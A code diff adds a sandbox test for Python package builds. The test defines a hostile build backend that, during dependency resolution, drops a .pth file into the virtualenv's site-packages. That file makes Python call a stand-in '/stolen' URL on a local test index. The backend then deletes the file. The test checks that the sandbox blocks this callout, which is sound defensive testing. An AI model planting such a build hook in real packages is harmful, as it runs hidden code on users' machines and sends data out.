@@ -111,3 +111,47 @@ def named_module_of_a_dependency(t):
     (t.base / "copy").rename(t.project)
     result = t.sandbox(*command, env=env, options=["--allow-host", f"localhost:{index.port}"])
     t.equal((t.project / name).read_text(), "the user's own build\n", result)
+
+
+BACKEND = """\
+import glob, os, zipfile
+PTH = glob.glob({environment!r} + '/lib/python3*/site-packages')[0] + '/evil.pth'
+STEAL = "try: urllib.request.urlopen({url!r}, timeout=5)\\nexcept Exception: pass"
+def get_requires_for_build_wheel(settings=None):
+    with open(PTH, 'w') as file:
+        file.write('import urllib.request; exec(' + repr(STEAL) + ')\\n')
+    return ['pure']
+def build_wheel(directory, settings=None, metadata=None):
+    os.unlink(PTH)
+    name, info = 'evil-1.0-py3-none-any.whl', 'evil-1.0.dist-info/'
+    with zipfile.ZipFile(os.path.join(directory, name), 'w') as wheel:
+        wheel.writestr(info + 'METADATA', 'Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n')
+        wheel.writestr(info + 'WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
+        wheel.writestr(info + 'RECORD', '')
+    return name
+"""
+PYPROJECT = """\
+[build-system]
+requires = []
+build-backend = "backend"
+backend-path = ["."]
+"""
+
+
+@test(time_limit=120)
+def a_build_that_acts_as_pip(t):
+    """a build that leaves a .pth file for the pip that it makes start, and removes it: that pip is no package manager"""
+    index = PypiIndex()
+    t.succeeded(t.bare(PYTHON, "-m", "venv", ".venv"))
+    backend = BACKEND.format(environment=f"{t.project}/.venv", url=index.url().replace("/simple/", "/stolen"))
+    index.add_sdist("evil", {"pyproject.toml": PYPROJECT, "backend.py": backend})
+    env = {"PIP_INDEX_URL": index.url()}
+    command = (f"{t.project}/.venv/bin/pip", "install", "evil")
+    t.bare(*command, env=env)
+    t.true("/stolen" in index.requests, "control: the second pip has sent it")
+    t.bare("rm", "-rf", ".venv")
+    t.succeeded(t.bare(PYTHON, "-m", "venv", ".venv"))
+    index.requests.clear()
+    result = t.sandbox(*command, env=env)
+    t.true("/stolen" not in index.requests, result)
+    t.true(any(path.startswith("/simple/evil") for path in index.requests), "pip itself reaches the index")
